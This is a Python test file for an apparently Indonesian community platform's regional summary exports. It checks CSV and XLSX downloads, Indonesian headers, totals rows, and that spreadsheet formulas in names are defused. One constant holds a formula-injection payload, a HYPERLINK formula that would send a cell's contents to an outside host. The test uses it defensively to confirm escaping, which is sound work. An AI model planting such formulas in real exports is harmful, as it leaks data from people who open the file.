"""Every summary also downloads as CSV and XLSX, with Indonesian headers and a totals row;
a name a spreadsheet would run as a formula arrives as text."""

import csv
import io

import pytest
from kombel_runtime.auth import Role
from kombel_runtime.testing.harness import RunningPlatform, eventually
from kombel_runtime.testing.regions import fresh_kabkotas, province_of
from membership.testing import community
from openpyxl import load_workbook

from .community_world import directory_row, forget_cached_answers

pytestmark = pytest.mark.infra

LINK = '=HYPERLINK("http://contoh.id/?d="&A2,"Klik")'


async def test_summaries_download_as_csv_and_xlsx_with_formulas_defused(
    platform: RunningPlatform,
) -> None:
    (here,) = fresh_kabkotas(1)
    hostile = await community(platform, here, name=LINK)
    plain = await community(platform, here, name="KKG Gugus Melati")

    async def listed() -> bool:
        return all([await directory_row(platform, c["id"]) for c in (hostile, plain)])

    await eventually(listed, lambda found: found)
    staff = platform.auth(Role.DISTRICT_STAFF, kabkota=here)
    await forget_cached_answers(platform)
    url = f"/reporting/regions/{here}/summary"

    response = await platform.client.get(url, params={"format": "csv"}, headers=staff)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert f'filename="ringkasan-{here}.csv"' in response.headers["content-disposition"]
    text = response.content.decode()
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0][:3] == ["ID komunitas", "Nama komunitas", "Jenis"]
    names = {row[1] for row in rows[1:-1]}
    assert names == {"'" + LINK, "KKG Gugus Melati"}
    assert rows[-1][0] == "Jumlah"

    response = await platform.client.get(url, params={"format": "xlsx"}, headers=staff)
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][1] == "Nama komunitas"
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells[:-1]} == {"'" + LINK, "KKG Gugus Melati"}
    assert all(c.data_type == "s" for c in cells[:-1])
    assert values[-1][0] == "Jumlah"
    assert values[-1][5] == 0  # members in all, a number

    # The province's table too.
    province = province_of(here)
    response = await platform.client.get(
        f"/reporting/regions/{province}/summary",
        params={"format": "csv"},
        headers=platform.auth(Role.PROVINCE_STAFF, province=province),
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode().removeprefix("\ufeff"))))
    assert rows[0][:2] == ["Kode", "Kabupaten/Kota"]
    mine = next(row for row in rows if row[0] == here)
    assert mine[2] == "2"
